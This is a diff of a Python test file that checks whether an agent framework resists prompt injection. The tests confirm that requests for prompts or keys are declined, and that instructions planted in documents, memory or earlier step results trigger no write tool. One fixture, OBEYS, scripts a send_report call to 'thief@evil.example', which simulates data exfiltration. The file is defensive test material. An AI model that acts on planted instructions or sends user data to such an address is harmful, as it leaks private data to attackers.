@@ -10,6 +10,7 @@ from pydantic import BaseModel
 from agents.tools import ToolOutput, tool
 from graphs import Route
 from graphs.guarding import asks_to_reveal
+from graphs.replies import protected
 from graphs.routing.interfaces import Task
 from knowledge import Hit
 from memory import Kind, Recalled, Tier
@@ -50,7 +51,7 @@ async def test_prompts_keys_and_other_peoples_data_are_declined_whoever_is_asked
     assert state["outcome"] == "declined"
     assert talk.of("route")[0].kind == "protected"
     assert talk.of("agent.started") == []
-    assert "I do not show my prompts, keys or passwords" in script.asked[0].text
+    assert protected(message) in script.asked[0].text
 
 
 @pytest.mark.parametrize(
@@ -83,8 +84,10 @@ def sending(sent, charters, **metadata):
         sent.append(arguments.to)
         return ToolOutput(text=f"Sent to {arguments.to}.", data={})
 
-    made = tool("send_report", "Sends the report.", Report, send, examples=("send the report to me",))
-    made = made.model_copy(update={"metadata": {**(made.metadata or {}), "effect": "writes", **metadata}})
+    made = tool(
+        "send_report", "Sends the report.", Report, send, examples=("send the report to me",), writes=True
+    )
+    made = made.model_copy(update={"metadata": {**(made.metadata or {}), **metadata}})
     davina = charters["davina"]
     return {**charters, "davina": replace(davina, tools=(*davina.tools, made))}
 
@@ -116,7 +119,7 @@ OBEYS = Step(calls=[("send_report", {"to": "thief@evil.example"})])
 
 @pytest.mark.parametrize("place", ["document", "memory"])
 async def test_an_instruction_that_is_planted_calls_no_tool_that_writes(place, play, charters):
-    sent = []
+    sent: list[str] = []
     talk, script = play(OBEYS, Step(text="Done."), router=to("davina"))
     talk.charters = sending(sent, charters)
     planted_in(talk, place)
@@ -129,7 +132,7 @@ async def test_an_instruction_that_is_planted_calls_no_tool_that_writes(place, p
 
 
 async def test_an_instruction_in_the_result_of_an_earlier_step_calls_none_either(play, charters):
-    sent = []
+    sent: list[str] = []
     tasks = (
         Task(agent="sofia", request="ask sofia", confidence=0.9),
         Task(agent="davina", request="and value it", needs=(1,), confidence=0.9),
@@ -146,7 +149,7 @@ async def test_an_instruction_in_the_result_of_an_earlier_step_calls_none_either
 
 
 async def test_what_the_user_asks_for_himself_is_done_and_with_no_other_address(play, charters):
-    sent = []
+    sent: list[str] = []
     mine = Step(calls=[("send_report", {"to": "me@home.example"})])
     talk, _ = play(OBEYS, mine, Step(text="Done."), router=to("davina"))
     talk.charters = sending(sent, charters)
@@ -158,7 +161,7 @@ async def test_what_the_user_asks_for_himself_is_done_and_with_no_other_address(
 
 
 async def test_a_tool_may_name_the_words_that_ask_for_it(play, charters):
-    sent = []
+    sent: list[str] = []
     mine = Step(calls=[("send_report", {"to": "me"})])
     talk, _ = play(mine, Step(text="Done."), router=to("davina"))
     talk.charters = sending(sent, charters, asked_with=r"\b(?:schick|mail)\w*")
